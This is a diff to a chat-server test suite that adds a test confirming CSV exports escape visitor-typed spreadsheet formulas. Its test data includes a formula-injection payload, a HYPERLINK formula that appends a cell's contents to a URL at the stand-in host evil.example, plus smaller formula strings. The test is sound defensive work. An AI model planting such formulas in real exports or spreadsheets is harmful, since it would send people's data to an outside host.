@@ -15,10 +15,12 @@ from server.accounts import add_account
 from server.review import waiting_since
 from tests.server.support import (
     PASSWORD,
+    agent,
     apply_a_suggestion,
     close_all,
     console,
     ignore_a_suggestion,
+    open_chat,
     running,
     running_with_coach,
     start_chat,
@@ -246,6 +248,38 @@ async def test_csv_export_names_the_agent_who_sent_each_flagged_message(redis_db
                     (r["flag_agent"], r["flag_agent_name"]) == ("", "") for r in unflagged
                 ), url
             await boss.close()
+        await close_all(vi, ag)
+
+
+async def test_csv_export_cells_a_spreadsheet_would_run_are_text(redis_db: str) -> None:
+    # The visitor types their name, their messages and their rating comment; in a CSV
+    # that Excel opens, none of them may become a live formula (a link that sends the
+    # cells next to it away). Each such cell starts with ' and reads as it was typed.
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
+    async with running_with_coach(redis_db) as srv:
+        ag = await agent(srv, redis_db, "ana")
+        vi, conv = await open_chat(srv, ag, formula, name="@SUM(1+1)")
+        for typed in ("+1 555 0100", "-2+3", "\t=1+1", "\r=1+1", "x=1, fine"):
+            await vi.say(typed)
+        await ag.send(type="close", conversation=conv)
+        await vi.expect("closed")
+        await vi.send(type="csat", id="r1", conversation=conv, score=1, comment="=1+1")
+        await vi.expect("pong", ref="r1")
+        async with await supervisor_http(srv, redis_db) as sup:
+            for url in (f"/api/review/conversations/{conv}/export", "/api/review/export"):
+                got = await sup.get(url, params={"format": "csv"})
+                rows = list(csv.DictReader(io.StringIO(got.content.decode("utf-8-sig"))))
+                said = [(r["from_name"], r["text"]) for r in rows if r["from"] == "visitor"]
+                assert said == [
+                    ("'@SUM(1+1)", "'" + formula),
+                    ("'@SUM(1+1)", "'+1 555 0100"),
+                    ("'@SUM(1+1)", "'-2+3"),
+                    ("'@SUM(1+1)", "'\t=1+1"),
+                    ("'@SUM(1+1)", "'\r=1+1"),
+                    ("'@SUM(1+1)", "x=1, fine"),
+                ], url
+                assert {r["csat_comment"] for r in rows} == {"'=1+1"}, url
+                assert all(r["conversation"] == conv for r in rows), url
         await close_all(vi, ag)
 
 
